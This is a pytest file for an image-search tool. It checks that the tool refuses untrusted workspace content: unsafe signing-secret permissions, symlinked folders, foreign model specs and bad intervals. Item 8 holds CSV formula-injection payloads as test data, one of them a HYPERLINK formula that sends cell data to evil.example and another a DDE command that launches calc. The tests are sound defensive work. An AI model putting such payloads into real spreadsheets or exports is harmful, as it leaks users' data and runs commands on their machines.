"""A workspace someone else prepared is untrusted (issue 20, items 4, 8, 9, 11, 12, 13): the signing secret is
used only when it is the user's alone, CSV cells never become formulas, the workspace does not choose a model
that is code or data from elsewhere, nor an update interval that spins, deep folders scan, and a ``.picsift``
link is never followed. Ray's checks (item 14) are in test_ray.py."""

from __future__ import annotations

import csv
import logging
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest

import picsift
from picsift import signing
from picsift.core.catalog import WORKSPACE_DIRNAME, Catalog
from picsift.embedding.spec import offline_model_available, parse_model_spec
from picsift.labels.export import read_table

from . import fast_python
from .conftest import stamp_files

OTHER_USER = 12345


def cli(*args: str) -> subprocess.CompletedProcess[str]:
    return fast_python.run([sys.executable, "-m", "picsift", *args], capture_output=True, text=True, timeout=300,
                           env={**os.environ, "HF_HUB_OFFLINE": "1"})


def record(folder: Path, **meta: str) -> None:
    """What a workspace prepared by someone else may say about itself."""
    with Catalog(folder / WORKSPACE_DIRNAME / "catalog.sqlite") as catalog:
        for key, value in meta.items():
            catalog.set_meta(key, value)


@pytest.fixture
def few_images(tmp_path: Path, stamps_root: Path) -> Path:
    folder = tmp_path / "images"
    folder.mkdir()
    for path in stamp_files(stamps_root, ("animals", "vehicles"), 2):
        shutil.copy2(path, folder / f"{path.parent.name}-{path.name}")
    return folder


# -- item 4: the signing secret ----------------------------------------------------------------------------
@pytest.fixture
def signed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[Path, Path]]:
    """An index folder signed with this user's new secret: (the folder, the secret)."""
    folder = tmp_path / "index"
    (folder / "collection").mkdir(parents=True)
    (folder / "collection" / "storage.sqlite").write_bytes(b"points")
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    signing.sign_folder(folder)
    assert signing.verify_folder(folder)
    yield folder, tmp_path / "config" / "picsift" / "secret"


@pytest.mark.parametrize(("target", "mode", "fix"), [
    ("secret", 0o620, "chmod 600"), ("secret", 0o602, "chmod 600"), ("secret", 0o644, "chmod 600"),
    ("folder", 0o770, "chmod go-w"), ("folder", 0o777, "chmod go-w"),
])
def test_a_secret_others_can_change_verifies_nothing_and_signs_nothing(
    signed: tuple[Path, Path], target: str, mode: int, fix: str
) -> None:
    folder, secret = signed
    path = secret if target == "secret" else secret.parent
    before = path.stat().st_mode
    path.chmod(mode)
    try:
        assert not signing.verify_folder(folder)  # the folder is then rebuilt, never loaded
        with pytest.raises(picsift.PicsiftError, match=re.escape(f"{fix} {path}")):
            signing.sign_folder(folder)
        with pytest.raises(picsift.PicsiftError, match="other users"):
            signing.user_secret()
    finally:
        path.chmod(before)
    assert signing.verify_folder(folder)  # fixed: trusted again


@pytest.mark.skipif(not hasattr(os, "getuid") or os.getuid() != 0, reason="making a file another user's needs root")
@pytest.mark.parametrize("target", ["secret", "folder"])
def test_a_secret_another_user_owns_verifies_nothing_and_signs_nothing(
    signed: tuple[Path, Path], target: str
) -> None:
    folder, secret = signed
    path = secret if target == "secret" else secret.parent
    os.chown(path, OTHER_USER, OTHER_USER)  # as if pre-created in a shared $XDG_CONFIG_HOME
    try:
        assert not signing.verify_folder(folder)
        with pytest.raises(picsift.PicsiftError, match=re.escape(f"{path} belongs to user id {OTHER_USER}")):
            signing.sign_folder(folder)
    finally:
        os.chown(path, os.getuid(), os.getgid())
    assert signing.verify_folder(folder)


def test_a_secret_or_its_folder_reached_through_a_link_is_not_used(
    signed: tuple[Path, Path], tmp_path: Path
) -> None:
    folder, secret = signed
    config = secret.parent
    moved = tmp_path / "elsewhere"
    config.rename(moved)
    config.symlink_to(moved)  # the whole folder a link (to a folder of this user's, even)
    assert not signing.verify_folder(folder)
    with pytest.raises(picsift.PicsiftError, match="is a symbolic link or not a folder"):
        signing.sign_folder(folder)
    config.unlink()
    moved.rename(config)
    assert signing.verify_folder(folder)
    kept = secret.with_name("kept")
    secret.rename(kept)
    secret.symlink_to(kept)
    assert not signing.verify_folder(folder)
    with pytest.raises(picsift.PicsiftError, match="is a symbolic link; delete it"):
        signing.sign_folder(folder)


def test_a_folder_of_another_size_is_refused_before_a_byte_is_hashed_and_same_size_changes_still_are(
    signed: tuple[Path, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    folder, _ = signed
    storage = folder / "collection" / "storage.sqlite"
    recorded = signing.signature_file(folder).read_text()
    assert recorded.split()[1] == str(len(b"points"))  # the HMAC, then the files' total size
    hashed: list[int] = []
    real_digest = signing._digest
    monkeypatch.setattr(signing, "_digest", lambda *args: hashed.append(1) or real_digest(*args))
    with open(storage, "r+b") as f:  # a planted file far larger than any picsift reads: sparse, takes no disk
        f.truncate(2**31 + 4096)
    assert not signing.verify_folder(folder) and not hashed  # refused on its size alone
    storage.write_bytes(b"pOints")  # the same size, other bytes: the HMAC refuses it
    assert not signing.verify_folder(folder) and hashed
    storage.write_bytes(b"points")
    assert signing.verify_folder(folder)
    digest_only = recorded.split()[0]  # a signature made before sizes were recorded is checked by its HMAC
    signing.signature_file(folder).write_text(digest_only)
    assert signing.verify_folder(folder)
    storage.write_bytes(b"pOints")
    assert not signing.verify_folder(folder)


def test_a_qdrant_index_signed_with_a_secret_others_can_change_is_not_loaded(
    tmp_path: Path, few_images: Path, tiny_model: str, monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
) -> None:
    pytest.importorskip("qdrant_client")
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    with picsift.Library(few_images, model=tiny_model, index="qdrant") as library:
        library.update(progress=False)
        ids = set(library.store.snapshot().ids.tolist())
        qdrant = library.store.folder / "qdrant"
        (qdrant / "planted").write_bytes(b"a pickle, say")
        signing.sign_folder(qdrant)  # as anyone who can write the secret could
    secret = tmp_path / "config" / "picsift" / "secret"
    secret.chmod(0o666)
    with caplog.at_level(logging.WARNING), picsift.Library(few_images, model=tiny_model) as library:
        assert library.index_name == "qdrant" and library.index.ids() == ids
    assert not (qdrant / "planted").exists()  # not trusted: rebuilt from the embedding store
    assert f"chmod 600 {secret}" in caplog.text and "rebuilding it" in caplog.text


# -- item 8: CSV export -----------------------------------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A2,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"]


def test_csv_cells_a_spreadsheet_would_run_are_escaped_and_numbers_stay_numbers(
    few_images: Path, tiny_model: str, tmp_path: Path
) -> None:
    with picsift.Library(few_images, model=tiny_model, index="exact") as library:
        library.update(progress=False)
        ids = library.images()["id"].tolist()
        for image_id, tag in zip(ids, FORMULAS, strict=True):
            library.labels.add_tag(image_id, tag)
        scores = [-0.5, 0.25, -1e-3, 0.75]  # negative scores are numbers, not formulas
        out = library.export(pd.DataFrame({"id": ids, "score": scores}), tmp_path / "out.csv", "csv")
    with open(out, newline="") as f:
        rows = list(csv.DictReader(f))
    assert [row["tags"] for row in rows] == ["'" + tag for tag in FORMULAS]
    assert [float(row["score"]) for row in rows] == scores and rows[0]["score"].startswith("-")
    risky = ("=", "+", "-", "@", "\t", "\r")
    assert not any(value.startswith(risky) for row in rows for key, value in row.items() if key != "score")
    back = read_table(out)  # and picsift reads its own export back as it was
    assert back["tags"].tolist() == [[tag] for tag in FORMULAS] and back["score"].tolist() == scores


# -- item 9: the model a workspace records ------------------------------------------------------------------
def test_a_workspace_does_not_choose_a_model_that_is_code_or_data_from_elsewhere(
    few_images: Path, tiny_model: str
) -> None:
    with picsift.Library(few_images, model=tiny_model) as library:
        library.update(progress=False)
    config = tiny_model.rsplit(":", 1)[0]
    for recorded in ("hf-hub:someone/evil-clip", tiny_model, f"{config}:random", f"ViT-B-32:{few_images}/w.bin"):
        text = parse_model_spec(recorded).text if recorded == tiny_model else recorded
        record(few_images, model=text)
        refusal = f"embedded with the model {re.escape(repr(text))}.*Name the model to use it.*--model"
        with picsift.Library(few_images) as library:
            for use in (lambda: library.update(progress=False), lambda: library.search("a cat"),
                        lambda: library.status()):
                with pytest.raises(picsift.PicsiftError, match=refusal):
                    use()
            assert library.collections.names() == []  # what needs no model still works
        with picsift.Library(few_images, model=tiny_model) as library:  # named: used
            assert len(library.search("a cat", limit=2)) == 2
    record(few_images, model="hf-hub:someone/evil-clip")
    refused = cli("search", str(few_images), "a cat")
    assert refused.returncode == 1 and refused.stderr.count("\n") == 1 and "--model SPEC" in refused.stderr

    record(few_images, model="ViT-B-32:laion2b_s34b_b79k")  # weights open_clip ships: used unnamed
    with picsift.Library(few_images) as library:
        assert library.spec.text == "ViT-B-32:laion2b_s34b_b79k"
    record(few_images, model="ViT-B-32:planted")  # the name of one, but open_clip has no such weights
    with picsift.Library(few_images) as library, pytest.raises(picsift.PicsiftError, match="does not ship"):
        _ = library.embedder
    if offline_model_available():
        record(few_images, model="picsift-offline")  # picsift's own
        with picsift.Library(few_images) as library:
            assert library.spec.text == "picsift-offline"


# -- item 11: the update interval ---------------------------------------------------------------------------
def test_an_update_interval_is_at_least_a_second(
    few_images: Path, tiny_model: str, caplog: pytest.LogCaptureFixture
) -> None:
    with picsift.Library(few_images, model=tiny_model) as library:
        for given in (0, 1e-9, 0.5, float("nan"), float("inf"), -1):
            with pytest.raises(picsift.PicsiftError, match=rf"interval={given!r}: .* at most every 1 s"):
                picsift.Service(library, interval=given)
            with pytest.raises(picsift.PicsiftError, match="at most every 1 s"):
                picsift.enable(library, interval=given)
        assert picsift.Service(library, interval=1).interval == 1
        for recorded, used in (("1e-9", 1.0), ("-5", 1.0), ("nan", 600.0), ("a while", 600.0), ("30", 30.0)):
            record(few_images, interval=recorded)
            with caplog.at_level(logging.WARNING):
                service = picsift.enable(library)
            try:
                assert service.interval == used
                assert library.catalog.get_meta("interval") == repr(used)  # recorded as used
            finally:
                service.stop()
                picsift.disable(library)
            assert (f"interval {recorded!r}" in caplog.text) == (recorded != "30")


# -- item 12: deep folders ----------------------------------------------------------------------------------
def test_folders_nested_deeper_than_pythons_recursion_limit_are_scanned(
    tmp_path: Path, stamps_root: Path, tiny_model: str
) -> None:
    root = tmp_path / "deep"
    root.mkdir()
    bottom = str(root)
    for _ in range(1100):
        bottom = os.path.join(bottom, "d")
        os.mkdir(bottom)  # (Path.mkdir(parents=True) and shutil.rmtree recurse too)
    image = stamp_files(stamps_root, ("animals",), 1)[0]
    shutil.copy2(image, os.path.join(bottom, "deep.png"))
    shutil.copy2(image, root / "top.png")
    os.symlink(root / "d", os.path.join(bottom, "loop"))  # a symlink loop at the bottom is still detected
    try:
        with picsift.Library(root, model=tiny_model, index="exact") as library:
            report = library.update(progress=False)
            assert report.added == 2 and report.skipped == [] and report.reused == 1  # one content, two files
            paths = sorted(library.catalog.files())
            assert paths == sorted(["top.png", "d/" * 1100 + "deep.png"])
    finally:
        _remove_deep(root)


def _remove_deep(root: Path) -> None:
    folders = [str(root)]
    while True:
        below = os.path.join(folders[-1], "d")
        if not os.path.isdir(below) or os.path.islink(below):
            break
        folders.append(below)
    for folder in reversed(folders):  # bottom up: each is empty but for files and shallow folders (.picsift)
        for name in os.listdir(folder):
            path = os.path.join(folder, name)
            if os.path.islink(path) or not os.path.isdir(path):
                os.unlink(path)
            else:
                shutil.rmtree(path)
        os.rmdir(folder)


# -- item 13: a .picsift link ---------------------------------------------------------------------------------
@pytest.mark.parametrize("target", [".", "elsewhere", "images"])
def test_a_picsift_folder_that_is_a_link_is_refused(
    tmp_path: Path, few_images: Path, tiny_model: str, target: str
) -> None:
    elsewhere = tmp_path / "elsewhere"  # a folder of the victim's
    elsewhere.mkdir()
    link = few_images / WORKSPACE_DIRNAME
    link.symlink_to("." if target == "." else tmp_path / target)
    before = sorted(p.name for p in few_images.iterdir()), sorted(elsewhere.iterdir())
    refusal = f"workspace {re.escape(str(link))} is a symbolic link.*--workspace DIR"
    with pytest.raises(picsift.PicsiftError, match=refusal):
        picsift.Library(few_images, model=tiny_model)
    refused = cli("update", str(few_images), "--model", tiny_model)
    assert refused.returncode == 1 and refused.stderr.count("\n") == 1 and "symbolic link" in refused.stderr
    assert (sorted(p.name for p in few_images.iterdir()), sorted(elsewhere.iterdir())) == before  # nothing written
    # named on purpose, the link is the user's choice, but it still may not be (or hold) the image folder
    if target != "elsewhere":
        with pytest.raises(picsift.PicsiftError, match=r"is the image folder|holds the image folder"):
            picsift.Library(few_images, workspace=link, model=tiny_model)


def test_status_reads_recorded_numbers_that_are_no_numbers_as_missing(image_folder: Path, tiny_model: str) -> None:
    import sqlite3

    with picsift.Library(image_folder, model=tiny_model, index="exact") as library:
        library.update(progress=False)
        workspace = library.workspace
    with sqlite3.connect(workspace / "catalog.sqlite") as db:
        db.execute("INSERT OR REPLACE INTO meta(key, value) VALUES ('interval', 'abc'), ('last_update', 'nan')")
    with picsift.Library(image_folder, model=tiny_model, index="exact") as library:
        status = library.status()
    assert status["interval"] is None and status["last_update"] is None and status["ready"]
